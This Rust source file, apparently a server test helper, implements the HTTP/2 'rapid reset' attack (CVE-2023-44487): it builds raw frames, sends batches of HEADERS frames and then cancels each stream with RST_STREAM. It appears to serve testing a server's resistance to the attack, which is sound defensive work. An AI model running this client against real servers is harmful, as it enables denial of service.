//! An HTTP/2 client that resets each stream as soon as its request has arrived (rapid reset, CVE-2023-44487).

use std::sync::atomic::{AtomicU64, Ordering};

use tokio::io::{AsyncWrite, AsyncWriteExt as _};
use tokio::sync::Notify;

/// Requests in flight at once, well below the limit of streams.
const BATCH: u32 = 50;

/// What has arrived at the server.
#[derive(Debug, Default)]
pub struct Arrivals {
    count: AtomicU64,
    changed: Notify,
}

impl Arrivals {
    /// Counts one request.
    pub fn count(&self) {
        // Relaxed: all of this runs on one thread.
        self.count.fetch_add(1, Ordering::Relaxed);
        self.changed.notify_one();
    }

    async fn reach(&self, count: u32) {
        // Relaxed, as above.
        while self.count.load(Ordering::Relaxed) < u64::from(count) {
            self.changed.notified().await;
        }
    }
}

/// Writes an HTTP/2 frame (RFC 9113, section 4.1).
///
/// # Panics
///
/// When the payload is longer than a length can say.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("the payload of a test is short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// `RST_STREAM` with the code CANCEL.
fn reset(stream: u32) -> Vec<u8> {
    frame(3, 0, stream, &8_u32.to_be_bytes())
}

/// Sends so many requests, a multiple of 50, each begun by `headers` of its stream, and resets each batch after the server has seen it.
///
/// # Panics
///
/// When the server hangs up.
pub async fn attack(mut io: impl AsyncWrite + Unpin, requests: u32, headers: fn(u32) -> Vec<u8>, arrivals: &Arrivals) {
    let sent = "the server takes it";
    io.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await.expect(sent);
    io.write_all(&frame(4, 0, 0, &[])).await.expect(sent);
    for batch in 0..requests / BATCH {
        let streams = || (batch * BATCH..(batch + 1) * BATCH).map(|number| 2 * number + 1);
        io.write_all(&streams().flat_map(headers).collect::<Vec<_>>()).await.expect(sent);
        arrivals.reach((batch + 1) * BATCH).await;
        io.write_all(&streams().flat_map(reset).collect::<Vec<_>>()).await.expect(sent);
    }
    io.shutdown().await.expect(sent);
}
